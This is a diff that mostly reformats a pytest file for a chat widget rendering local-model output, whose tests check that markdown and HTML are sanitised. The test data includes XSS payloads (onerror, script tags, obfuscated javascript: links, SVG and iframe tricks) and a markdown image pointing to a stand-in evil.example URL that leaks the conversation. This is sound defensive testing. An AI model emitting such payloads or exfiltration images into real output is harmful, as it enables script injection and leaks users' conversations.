@@ -4,7 +4,7 @@ import base64
 import io
 import json
 import time
-from datetime import datetime, timezone
+from datetime import UTC, datetime
 
 import pytest
 from PIL import Image
@@ -13,13 +13,20 @@ from course_utils.chat import ChatWidget, executable_parts, render_markdown
 from course_utils.errors import CourseError
 from tests.ollama_double import PREFIX
 
-XSS = ('<img src=x onerror="window.__xss=1"> <script>window.__xss=2</script> [a](javascript:window.__xss=3) '
-       '<a href="javascript:window.__xss=4">b</a> [c](JaVaScRiPt:alert(1)) ![d](javascript:alert(2))')
+XSS = (
+    '<img src=x onerror="window.__xss=1"> <script>window.__xss=2</script> [a](javascript:window.__xss=3) '
+    '<a href="javascript:window.__xss=4">b</a> [c](JaVaScRiPt:alert(1)) ![d](javascript:alert(2))'
+)
 
 
 def upload_item(data: bytes, name: str = "foto.jpg") -> dict:
-    return {"name": name, "type": "image/jpeg", "size": len(data), "content": memoryview(data),
-            "last_modified": datetime.now(timezone.utc)}
+    return {
+        "name": name,
+        "type": "image/jpeg",
+        "size": len(data),
+        "content": memoryview(data),
+        "last_modified": datetime.now(UTC),
+    }
 
 
 def texts(chat: ChatWidget) -> list[str]:
@@ -249,6 +256,7 @@ def test_clear_empties_the_conversation_but_not_while_streaming(chat, ollama_dou
 
 # --- nothing lost, nothing hangs (issue 10) -----------------------------------------------------------
 
+
 def test_cut_stream_keeps_the_question_and_the_partial_answer_marked_interrupted(chat, ollama_double, samples):
     ollama_double.replies.append("uno dos tres cuatro cinco seis siete ocho")
     ollama_double.cut_after_chunks = 3
@@ -313,21 +321,25 @@ def test_export_to_a_bad_folder_is_explained_and_nothing_is_overwritten(chat, tm
 
 
 def test_model_output_cannot_load_remote_images():
-    rendered = render_markdown("mira ![secreto](http://evil.example/leak?q=conversacion) y "
-                               "[enlace](https://example.org)")
+    rendered = render_markdown(
+        "mira ![secreto](http://evil.example/leak?q=conversacion) y [enlace](https://example.org)"
+    )
     assert "<img" not in rendered and "evil.example" in rendered  # shown as text or a plain link
     assert 'href="https://example.org"' in rendered
 
 
-@pytest.mark.parametrize("html_text, found", [
-    ('<a href="java&#09;script:alert(1)">x</a>', "href="),
-    ('<a href="java\nscript:alert(1)">x</a>', "href="),
-    ('<a href="&#106;avascript:alert(1)">x</a>', "href="),
-    ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "xlink:href="),
-    ('<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>', "values="),
-    ('<svg><set attributeName="href" to="javascript:alert(1)"/></svg>', "to="),
-    ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', "<iframe>"),
-])
+@pytest.mark.parametrize(
+    "html_text, found",
+    [
+        ('<a href="java&#09;script:alert(1)">x</a>', "href="),
+        ('<a href="java\nscript:alert(1)">x</a>', "href="),
+        ('<a href="&#106;avascript:alert(1)">x</a>', "href="),
+        ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "xlink:href="),
+        ('<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>', "values="),
+        ('<svg><set attributeName="href" to="javascript:alert(1)"/></svg>', "to="),
+        ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', "<iframe>"),
+    ],
+)
 def test_executable_parts_sees_through_obfuscation(html_text, found):
     assert any(part.startswith(found) for part in executable_parts(html_text)), executable_parts(html_text)
 
